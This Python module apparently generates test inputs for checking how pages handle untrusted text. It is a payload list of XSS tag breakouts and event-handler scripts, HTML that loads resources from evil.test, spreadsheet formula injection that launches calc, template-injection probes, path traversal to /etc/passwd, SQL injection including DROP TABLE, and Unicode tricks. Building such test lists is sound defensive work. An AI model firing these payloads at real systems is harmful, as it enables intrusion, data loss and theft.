"""Strings that would run, load or break something where a page took text for anything else than text."""

from itertools import islice, product

BREAKING = (
    "",
    '"',
    "'",
    "`",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</svg>",
    "-->",
    "]]>",
    "</datalist>",
    "</mark></div>",
)
RUNNING = (
    "<script>{0}</script>",
    "<img src=x onerror={0}>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    "<a href='javascript:{0}' autofocus onfocus={0}>here</a>",
    "<details open ontoggle={0}>",
    "<input autofocus onfocus={0}>",
    "<video><source onerror={0}></video>",
    "<math><mtext><style><img src=x onerror={0}></style></mtext></math>",
    "<form action=http://evil.test/ id=adding><button autofocus>go</button></form>",
    "<base href=http://evil.test/>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<link rel=stylesheet href=http://evil.test/a.css>",
    "<div hx-get=http://evil.test/ hx-trigger=load>x</div>",
    "<div hx-on:htmx:load='{0}'>x</div>",
    "<object data=http://evil.test/o></object>",
    "<style>@import 'http://evil.test/s.css';</style>",
)
ALONE = (
    "javascript:{0}",
    "data:text/html,<script>{0}</script>",
    "{{{{ 7*7 }}}}{{% raw %}}",
    "${{7*7}}",
    '=HYPERLINK("http://evil.test/","x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "file:///etc/passwd",
    "\u202eexe.txt",
    "\u2066\u2069\u200f\u061c",
    "a\u0000b",
    "\ufeff\ufffe",
    "'; DROP TABLE claims; --",
    '" OR 1=1 --',
    "{0}" * 40,
    "&#x3C;script&#x3E;{0}&#x3C;/script&#x3E;",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    "Z̸̢͎̘̞a̵l̶g̷o̸" * 20,
    'onmouseover={0} x="',
)
CALL = "alert(document.domain)"


def attacks(most: int = 200) -> list[str]:
    """So many different ones."""
    made = [one.format(CALL) for one in ALONE]
    made += [breaking + running.format(CALL) for running, breaking in product(RUNNING, BREAKING)]
    return list(dict.fromkeys(islice(made, most)))
